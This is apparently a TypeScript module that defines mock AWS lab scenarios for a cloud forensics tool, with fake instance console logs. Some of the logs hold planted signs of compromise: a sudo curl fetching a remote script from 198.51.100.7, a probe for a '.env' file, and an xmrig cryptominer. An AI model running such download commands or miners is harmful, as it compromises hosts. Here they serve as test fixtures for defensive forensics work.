/**
 * Ready-made lab scenarios: the demo's three accounts, and a scalable one for the benchmark.
 */
import type { LabScenario, LabScenarioAccount, LabScenarioInstance } from './aws/scenario.js';

export const FORENSICS_ACCOUNT = '111111111111';
/** The forensics account's Object Lock bucket, as infra/aws/forensics-account.template.json creates it. */
export const EVIDENCE_BUCKET = `cloud-custody-evidence-${FORENSICS_ACCOUNT}`;
export const ORCHESTRATOR_ROLE = 'CloudCustodyOrchestrator';
export const COLLECTOR_ROLE = 'CloudCustodyCollector';
const ORCHESTRATOR_ROLE_ARN = `arn:aws:iam::${FORENSICS_ACCOUNT}:role/${ORCHESTRATOR_ROLE}`;
const COLLECTION_TAG = { ForensicsEnabled: 'true' } as const;

/** A plausible serial console: kernel boot, cloud-init, then whatever the host logged last. */
function consoleText(hostname: string, lastLines: string[]): string {
  return [
    '[    0.000000] Linux version 6.1.112-124.190.amzn2023.x86_64 (mockbuild@ip-10-0-36-1) (gcc (GCC) 11.4.1) #1 SMP PREEMPT_DYNAMIC',
    '[    0.000000] Command line: BOOT_IMAGE=(hd0,gpt1)/boot/vmlinuz-6.1.112 root=UUID=8c8f2b1e-4f0a-4b7e-9a55-3d6f1e0c2a91 ro console=tty0 console=ttyS0,115200n8 nvme_core.io_timeout=4294967295',
    '[    0.000000] x86/fpu: Supporting XSAVE feature 0x001: \'x87 floating point registers\'',
    '[    0.412311] nvme nvme0: pci function 0000:00:04.0',
    '[    0.431902] nvme0n1: p1 p127 p128',
    '[    1.902114] EXT4-fs (nvme0n1p1): mounted filesystem with ordered data mode. Quota mode: none.',
    `[    3.118270] cloud-init[1702]: Cloud-init v. 22.2.2 running 'init' at Mon, 23 Nov 2026 08:14:02 +0000. Up 3.10 seconds.`,
    `[    4.551203] cloud-init[1702]: ci-info: | eth0 | True | 10.0.0.12 | 255.255.255.0 | global |`,
    `[  OK  ] Started sshd.service - OpenSSH server daemon.`,
    `${hostname} login: `,
    ...lastLines,
    '',
  ].join('\r\n');
}

function collectorRole(): LabScenarioAccount['roles'] {
  return [{ name: COLLECTOR_ROLE, trustedPrincipals: [ORCHESTRATOR_ROLE_ARN], requireSourceIdentity: true }];
}

function shareKey(): NonNullable<LabScenarioAccount['keys']>[number] {
  return {
    alias: 'alias/cloud-custody-share',
    description: 'cloud-custody: re-encrypts evidence snapshots so the forensics account can copy them',
    allowedAccounts: [FORENSICS_ACCOUNT],
  };
}

function forensicsAccount(): LabScenarioAccount {
  return {
    id: FORENSICS_ACCOUNT,
    keys: [{ alias: 'alias/cloud-custody-forensics', description: 'cloud-custody: evidence copies in the forensics account' }],
  };
}

export interface DemoScenarioOptions {
  /** Lab ms a snapshot takes to complete (default 1500: the demo runs in seconds). */
  snapshotDurationMs?: number;
  region?: string;
}

/**
 * The demo: forensics account 111111111111; target 222222222222 with a tagged web server (two
 * volumes, the root under `aws/ebs`), a tagged database on a customer key, and an untagged batch
 * host; target 333333333333 with a tagged API host and a host also tagged `Incident=INC-42`.
 */
export function demoScenario(options: DemoScenarioOptions = {}): LabScenario {
  // The disks the EBS direct API serves are small and mostly unwritten (64–128 MiB; the EC2 sizes
  // stay realistic), so hashing every preserved volume keeps the demo fast. Big disks: the bench.
  const web: LabScenarioInstance = {
    tags: { Name: 'web-01', Environment: 'prod', ...COLLECTION_TAG },
    instanceType: 't3.large',
    volumes: [
      { sizeGiB: 8, encryption: 'aws/ebs', tags: { Name: 'web-01-root', ...COLLECTION_TAG }, disk: { sizeMiB: 64, writtenFraction: 0.25 } },
      { sizeGiB: 20, encryption: 'alias/cloud-custody-share', tags: { Name: 'web-01-data', ...COLLECTION_TAG }, disk: { sizeMiB: 128, writtenFraction: 0.1 } },
    ],
    consoleOutput: consoleText('web-01', [
      '[183022.771201] nginx[2211]: 2026/11/25 23:41:07 [error] 2211#2211: *88121 open() "/usr/share/nginx/html/.env" failed (2: No such file or directory)',
      '[183190.004512] sshd[90412]: Accepted publickey for ec2-user from 203.0.113.45 port 52814 ssh2: ED25519 SHA256:QeX1f0Zt6n2m9pQ8bVvE3k1wq2Hc7sY4rLmN5oPa8Bc',
      '[183191.220019] sudo[90440]: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.7/x.sh',
    ]),
  };
  const db: LabScenarioInstance = {
    tags: { Name: 'db-01', Environment: 'prod', ...COLLECTION_TAG },
    instanceType: 'r6i.large',
    volumes: [{ sizeGiB: 50, encryption: 'alias/app-data', tags: { Name: 'db-01-root', ...COLLECTION_TAG }, disk: { sizeMiB: 96, writtenFraction: 0.2 } }],
    consoleOutput: consoleText('db-01', ['[ 9021.551002] postgres[1410]: LOG:  checkpoint complete: wrote 1822 buffers (11.1%)']),
  };
  const batch: LabScenarioInstance = {
    tags: { Name: 'batch-01', Environment: 'prod' },
    volumes: [{ sizeGiB: 8, encryption: 'aws/ebs', tags: { Name: 'batch-01-root' }, disk: { sizeMiB: 64, writtenFraction: 0.25 } }],
    consoleOutput: consoleText('batch-01', ['[ 4410.120001] cron[988]: (root) CMD (/opt/batch/run-nightly.sh)']),
  };
  const api: LabScenarioInstance = {
    tags: { Name: 'api-01', Environment: 'staging', ...COLLECTION_TAG },
    volumes: [{ sizeGiB: 16, encryption: 'aws/ebs', tags: { Name: 'api-01-root', ...COLLECTION_TAG }, disk: { sizeMiB: 64, writtenFraction: 0.2 } }],
    consoleOutput: consoleText('api-01', ['[ 7012.880100] node[1201]: listening on :8080']),
  };
  const worker: LabScenarioInstance = {
    tags: { Name: 'worker-07', Environment: 'staging', Incident: 'INC-42', ...COLLECTION_TAG },
    volumes: [
      { sizeGiB: 8, encryption: 'aws/ebs', tags: { Name: 'worker-07-root', ...COLLECTION_TAG }, disk: { sizeMiB: 64, writtenFraction: 0.25 } },
      { sizeGiB: 100, encryption: 'none', tags: { Name: 'worker-07-scratch', ...COLLECTION_TAG }, disk: { sizeMiB: 128, writtenFraction: 0.05 } },
    ],
    consoleOutput: consoleText('worker-07', [
      '[52011.402200] kernel: xmrig[31337]: segfault at 0 ip 000055d5c1a2b3c4 sp 00007ffd2e8f1a20 error 4 in xmrig[55d5c1a00000+2b4000]',
      '[52012.000013] systemd[1]: Started kworkerds.service.',
    ]),
  };
  return {
    forensicsAccount: FORENSICS_ACCOUNT,
    region: options.region ?? 'us-east-1',
    orchestrator: { roleName: ORCHESTRATOR_ROLE },
    snapshotDurationMs: options.snapshotDurationMs ?? 1500,
    buckets: [{ name: EVIDENCE_BUCKET, objectLock: true }],
    accounts: [
      forensicsAccount(),
      {
        id: '222222222222',
        roles: collectorRole(),
        keys: [
          shareKey(),
          { alias: 'alias/app-data', description: 'application data at rest', allowedAccounts: [FORENSICS_ACCOUNT] },
        ],
        instances: [web, db, batch],
      },
      { id: '333333333333', roles: collectorRole(), keys: [shareKey()], instances: [api, worker] },
    ],
  };
}

export interface BenchScenarioOptions {
  accounts?: number;
  instancesPerAccount?: number;
  volumesPerInstance?: number;
  snapshotDurationMs?: number;
  region?: string;
}

/**
 * Many target accounts (`200000000001`, …) of identical tagged instances: the first volume of each
 * under `aws/ebs` (so it must be re-encrypted before sharing), the others on the share key.
 */
export function benchScenario(options: BenchScenarioOptions = {}): LabScenario {
  const accounts = options.accounts ?? 10;
  const perAccount = options.instancesPerAccount ?? 20;
  const volumesPer = options.volumesPerInstance ?? 2;
  const targets: LabScenarioAccount[] = [];
  for (let a = 1; a <= accounts; a += 1) {
    const id = String(200000000000 + a);
    const instances: LabScenarioInstance[] = [];
    for (let i = 1; i <= perAccount; i += 1) {
      const name = `bench-${a}-${i}`;
      instances.push({
        tags: { Name: name, ...COLLECTION_TAG },
        volumes: Array.from({ length: volumesPer }, (_, v) => ({
          sizeGiB: v === 0 ? 8 : 32,
          encryption: v === 0 ? ('aws/ebs' as const) : ('alias/cloud-custody-share' as const),
          tags: { Name: `${name}-vol${v}`, ...COLLECTION_TAG },
        })),
        consoleOutput: consoleText(name, []),
      });
    }
    targets.push({ id, roles: collectorRole(), keys: [shareKey()], instances });
  }
  return {
    forensicsAccount: FORENSICS_ACCOUNT,
    region: options.region ?? 'us-east-1',
    orchestrator: { roleName: ORCHESTRATOR_ROLE },
    snapshotDurationMs: options.snapshotDurationMs ?? 1000,
    seed: 'cloud-custody-bench',
    accounts: [forensicsAccount(), ...targets],
  };
}
